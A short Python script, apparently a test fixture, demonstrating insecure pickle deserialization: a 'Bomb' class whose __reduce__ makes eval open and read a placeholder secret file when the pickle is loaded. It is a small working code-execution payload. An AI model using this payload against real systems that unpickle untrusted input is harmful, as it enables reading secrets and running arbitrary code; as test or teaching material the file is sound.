"""A pickle that opens a file."""
import pickle
class Bomb:
    def __reduce__(self):
        return eval, ("open('@SECRET_FILE@').read()",)
print(pickle.loads(pickle.dumps(Bomb())))
